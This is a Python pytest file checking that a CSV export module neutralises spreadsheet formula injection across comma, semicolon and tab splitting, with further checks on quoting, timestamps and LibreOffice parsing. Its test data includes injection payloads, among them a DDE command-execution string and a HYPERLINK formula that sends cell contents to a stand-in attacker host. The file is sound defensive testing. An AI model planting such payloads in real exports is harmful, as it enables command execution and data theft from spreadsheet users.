"""No cell of a CSV export is a formula, in whatever way a spreadsheet cuts the file."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import UTC, datetime
from typing import TYPE_CHECKING

import pytest

from nurture.audit import cells

if TYPE_CHECKING:
    from pathlib import Path

TRICKY = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    " =1",
    "\r=1",
    "\n=1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\uff1d1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\u22121+1",
    'a"=1',
    '"=1',
    "a\n=1",
    "a\r\n =1",
    "a;=1",
    'a;"=1',
    "a; =cmd|' /C calc'!A0",
    "a\t=1",
    "a\u2028=1",
    "\0=1",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+49-30+1",
]


@pytest.mark.parametrize("text", TRICKY, ids=[f"case{number}" for number in range(len(TRICKY))])
@pytest.mark.parametrize("cut", [",", ";", "\t"])
def test_no_reading_of_a_line_begins_a_formula(text: str, cut: str) -> None:
    written = cells.row(["before", text, "after"])
    # A reader that honours quotes, one that cuts at every mark, and one that ends lines inside quotes.
    pieces = [cell for line in csv.reader(io.StringIO(written, newline=""), delimiter=cut) for cell in line]
    pieces += [piece for line in written.splitlines() for piece in line.split(cut)]

    assert [
        piece
        for piece in pieces
        if piece.strip('" \t\r\n\u00a0\u200b\ufeff\0')[:1] in {*"=+-@\uff1d\uff0b\uff0d\uff20\u2212"}
    ] == []


@pytest.mark.parametrize(
    "text", ["+49 30 1234567", "+4930123456", "-5", "12,5", "a = b", "Ja, gern", "kim@firma.example", ""]
)
def test_plain_text_stays_as_it_is(text: str) -> None:
    [line] = csv.reader(io.StringIO(cells.row([text, "x"]), newline=""))

    assert line == [text, "x"]


def test_every_cell_is_quoted_and_lines_end_as_rfc_4180_says() -> None:
    assert cells.row(['say "x"', 1, None, True]) == '"say ""x""","1","","yes"\r\n'


def test_times_are_utc_texts() -> None:
    assert cells.row([datetime(2026, 11, 23, 8, tzinfo=UTC)]) == '"2026-11-23T08:00:00.000000Z"\r\n'


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(cells.BOM + "".join(cells.row([text]) for text in TRICKY), "utf-8", newline="")
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "fods", "--outdir", tmp_path, sheet], check=True, capture_output=True
    )

    assert "table:formula" not in (tmp_path / "sheet.fods").read_text("utf-8")
